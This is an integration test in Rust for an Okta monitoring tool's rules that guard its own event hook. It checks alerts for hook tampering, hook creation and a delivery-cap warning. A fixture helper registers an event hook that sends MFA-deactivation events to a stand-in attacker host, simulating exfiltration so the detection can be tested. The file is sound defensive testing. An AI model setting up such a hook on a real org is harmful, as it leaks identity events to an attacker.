//! The built-in rules that guard factorwatch's own event hook, against the Okta stand-in with the
//! System Log poller on: the hook deactivated by an admin alerts once, `critical`, naming the
//! admin and the hook; the same change by factorwatch's own API client alerts nothing; another
//! hook created alerts `high`; Okta's warning that the event hooks' daily cap is near alerts
//! `high` with the count Okta reported.

use std::time::Duration;

use factorwatch::okta::samples;
use serde_json::{Value, json};
use tempfile::TempDir;

use crate::helpers::read_alert_lines;
use crate::okta_standin::{Actor, HookSeed};
use crate::reconcile::{CLIENT_ID, Org, SOON, alert_of_type, serve};

/// The name this deployment gives its hook (`[okta] hook_name`).
const HOOK_NAME: &str = "factorwatch-prod";
/// An SSWS token of the samples' admin, allowed to manage event hooks.
const ADMIN_TOKEN: &str = "00admin-token-for-hook-guard";

/// Creates a hook named `name` through the Event Hooks API, as an admin with an API token would.
async fn create_hook_as_admin(org: &Org, name: &str) {
    let body = json!({
        "name": name,
        "events": {"type": "EVENT_TYPE", "items": ["user.mfa.factor.deactivate"]},
        "channel": {"type": "HTTP", "version": "1.0.0", "config": {
            "uri": "https://collector.attacker.example/okta", "headers": [],
            "authScheme": {"type": "HEADER", "key": "Authorization", "value": "x"},
        }},
    });
    let answer = reqwest::Client::new()
        .post(format!("{}/api/v1/eventHooks", org.okta.org_url()))
        .header("Authorization", format!("SSWS {ADMIN_TOKEN}"))
        .header("Accept", "application/json")
        .json(&body)
        .send()
        .await
        .unwrap();
    assert_eq!(answer.status(), 200, "{}", answer.text().await.unwrap());
}

/// The one alert of `alerts` raised by the rule titled `title`.
fn alert_of_rule<'a>(alerts: &'a [Value], title: &str) -> &'a Value {
    let found: Vec<&Value> = alerts
        .iter()
        .filter(|alert| alert["rule"]["title"] == title)
        .collect();
    assert_eq!(found.len(), 1, "alerts of {title}: {alerts:#?}");
    found[0]
}

#[tokio::test]
async fn the_hook_guard_alerts_on_tampering_another_hook_and_the_daily_cap_but_not_on_factorwatch()
{
    let org = Org::new().await;
    org.okta
        .add_api_token(ADMIN_TOKEN, &["okta.eventHooks.manage"]);
    let seed = HookSeed::new(
        HOOK_NAME,
        "https://factorwatch.example.com/okta/events",
        &["user.mfa.factor.deactivate"],
        "hook-secret",
    );
    let hook = org.okta.add_event_hook(&seed);
    let data = TempDir::new().unwrap();
    let extra = format!("[okta]\nhook_name = \"{HOOK_NAME}\"");
    let _server = serve(data.path(), &org.config(data.path(), &extra), &[]).await;

    // factorwatch's own client deactivates, re-points and reactivates its hook (what
    // `factorwatch okta register` does): none of it is tampering.
    let factorwatch = Actor::client_app(CLIENT_ID);
    org.okta.edit_event_hook(&hook, &factorwatch, |hook| {
        hook["status"] = json!("INACTIVE");
    });
    org.okta.edit_event_hook(&hook, &factorwatch, |hook| {
        hook["channel"]["config"]["uri"] = json!("https://factorwatch.example.com/okta/v2");
    });
    org.okta.edit_event_hook(&hook, &factorwatch, |hook| {
        hook["status"] = json!("ACTIVE");
    });
    // Then an attacker with an admin session deactivates it, an admin's token creates another
    // hook, and Okta warns that the day's hook deliveries near the cap.
    let attacker = Actor::admin(&samples::users()[1]);
    org.okta.edit_event_hook(&hook, &attacker, |hook| {
        hook["status"] = json!("INACTIVE");
    });
    create_hook_as_admin(&org, "SIEM export").await;
    let warning = samples::event_hook_cap_warning(280_017);
    org.okta.publish(vec![warning.clone()]);

    let alerts_file = data.path().join("alerts.jsonl");
    let alerts = crate::helpers::wait_for_alert_lines(&alerts_file, 3, SOON).await;
    let tampered = alert_of_type(&alerts, "event_hook.deactivated");
    assert_eq!(
        tampered["rule"]["title"],
        "Okta Event Hook of factorwatch Deactivated, Deleted or Changed"
    );
    assert_eq!(tampered["level"], "critical");
    assert_eq!(tampered["actor"]["alternateId"], attacker.alternate_id);
    assert_eq!(tampered["actor"]["id"], attacker.id);
    assert_eq!(tampered["raw_event"]["target"][0]["displayName"], HOOK_NAME);
    assert_eq!(tampered["raw_event"]["target"][0]["id"], hook.as_str());
    assert_eq!(tampered["source"], "system_log");

    let created = alert_of_rule(&alerts, "Okta Event Hook Created, Activated or Changed");
    assert_eq!(created["level"], "high");
    assert_eq!(created["event"]["eventType"], "event_hook.created");
    assert_eq!(
        created["raw_event"]["target"][0]["displayName"],
        "SIEM export"
    );
    let token_admin = samples::users().pop().unwrap();
    assert_eq!(created["actor"]["alternateId"], token_admin.login);

    let cap = alert_of_type(&alerts, "system.org.rate_limit.warning");
    assert_eq!(cap["level"], "high");
    assert_eq!(cap["event"]["uuid"], warning["uuid"]);
    let reported = &cap["raw_event"]["debugContext"]["debugData"];
    assert_eq!(reported["count"], "280017", "{cap}");
    assert_eq!(reported["limit"], "400000", "{cap}");

    // The poller asked for the rate-limit events, and more polls bring nothing new: the
    // changes by factorwatch's client, read before the attacker's, alerted nothing.
    let filter = org.log_requests()[0].param("filter").unwrap().to_owned();
    for wanted in [
        r#"eventType eq "system.org.rate_limit.warning""#,
        r#"eventType eq "system.org.rate_limit.violation""#,
        r#"eventType sw "event_hook.""#,
    ] {
        assert!(filter.contains(wanted), "{wanted} not in {filter}");
    }
    tokio::time::sleep(Duration::from_secs(2)).await;
    let alerts = read_alert_lines(&alerts_file);
    assert_eq!(alerts.len(), 3, "{alerts:#?}");
    org.assert_spec_kept();
}
